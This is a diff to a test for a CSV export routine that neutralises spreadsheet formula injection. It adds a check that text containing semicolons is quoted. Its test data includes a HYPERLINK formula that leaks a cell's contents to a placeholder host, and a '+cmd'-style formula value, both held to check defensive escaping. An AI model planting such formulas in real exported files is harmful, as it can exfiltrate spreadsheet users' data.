@@ -19,6 +19,10 @@ test('COPY to CSV neutralises formula-like text in every text column, in column 
         "'\ttab,-1.0,2026-02-01,'+1+cmd",
         'plain,3.0,,',
       ]);
+      // A text column holding a semicolon is quoted throughout (a semicolon-locale spreadsheet splits cells there).
+      await db.run(`CREATE TABLE s AS SELECT * FROM (VALUES ('a;=HYPERLINK("x")', 1), ('plain', 2)) v(note, n)`);
+      await copyCsv(db, 'SELECT * FROM s ORDER BY n', path);
+      expect(readFileSync(path, 'utf8').trim().split('\n')).toEqual(['"note",n', '"a;=HYPERLINK(""x"")",1', '"plain",2']);
       // The table itself is unchanged: machines read those values.
       expect(await db.value(`SELECT id FROM t WHERE amount = -2.5`)).toBe('=HYPERLINK("http://x/?leak="&A1,"click")');
     });
